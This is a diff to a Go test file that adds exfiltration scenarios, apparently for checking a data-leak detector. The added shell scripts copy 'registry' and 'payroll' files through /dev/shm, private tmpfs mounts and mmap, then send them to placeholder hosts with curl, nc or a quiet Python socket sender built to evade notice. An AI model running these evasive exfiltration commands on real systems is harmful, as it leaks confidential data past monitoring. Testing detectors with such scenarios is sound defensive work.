@@ -57,8 +57,26 @@ func copies() []*scenario {
 		{name: "a symbolic link", store: "registry", carrier: "curl", how: direct, script: `ln -s "$D" "$W/name"; curl -sST "$W/name" "$U"`},
 		{name: "dd, then nc", store: "payroll", carrier: "nc", how: derived, script: `dd if="$P" of="$W/copy" status=none; nc -N "$OUT" "$PORT" <"$W/copy"`},
 		{
-			name: "a copy in memory", store: "registry", carrier: "curl", how: derived, gap: "(tmpfs)",
+			name: "a copy in memory", store: "registry", carrier: "curl", how: derived,
 			script: `cp "$D" "/dev/shm/battery-$PORT"; curl -sST "/dev/shm/battery-$PORT" "$U"; rm "/dev/shm/battery-$PORT"`,
+		},
+		{
+			name: "a copy in memory that others had read", store: "registry", carrier: "curl", how: derived,
+			script: `cp "$D" "/dev/shm/battery-$PORT"; sleep 0.1; cat "/dev/shm/battery-$PORT" >"$W/log2"; curl -sST "/dev/shm/battery-$PORT" "$U"; rm "/dev/shm/battery-$PORT"`,
+		},
+		{
+			name: "a copy in memory of one's own, then nc", store: "payroll", carrier: "nc", how: derived,
+			script: `mkdir "$W/m"; unshare -m bash -c 'mount -t tmpfs memory "$W/m"; cp "$P" "$W/m/copy"; sleep 0.1; nc -N "$OUT" "$PORT" <"$W/m/copy"'`,
+		},
+		{
+			name: "shared memory", store: "registry", carrier: "curl", how: derived,
+			script: `python3 -c 'import mmap,os,sys
+d=open(sys.argv[1],"rb").read(); f=os.open(sys.argv[2],os.O_CREAT|os.O_RDWR); os.ftruncate(f,len(d)); m=mmap.mmap(f,len(d)); m[:]=d' "$D" "/dev/shm/battery-$PORT"
+				curl -sST "/dev/shm/battery-$PORT" "$U"; rm "/dev/shm/battery-$PORT"`,
+		},
+		{
+			name: "a copy in memory, read after others by calls alone", store: "payroll", carrier: "python3", how: derived, gap: "(tmpfs)",
+			script: `cp "$P" "/dev/shm/battery-$PORT"; sleep 0.1; cat "/dev/shm/battery-$PORT" >"$W/log2"; python3 -c '` + readQuietly + `' "/dev/shm/battery-$PORT"; rm "/dev/shm/battery-$PORT"`,
 		},
 		{
 			name: "a copy under another name", store: "registry", carrier: "curl", how: derived,
@@ -83,6 +101,11 @@ func copies() []*scenario {
 		},
 	}
 }
+
+// readQuietly sends a file without asking for its size.
+const readQuietly = `import os,socket,sys
+s=socket.create_connection((os.environ["OUT"],int(os.environ["PORT"]))); f=os.open(sys.argv[1],os.O_RDONLY)
+while d:=os.read(f,65536): s.sendall(d)`
 
 // channels are others that pass on what they are given.
 func channels() []*scenario {
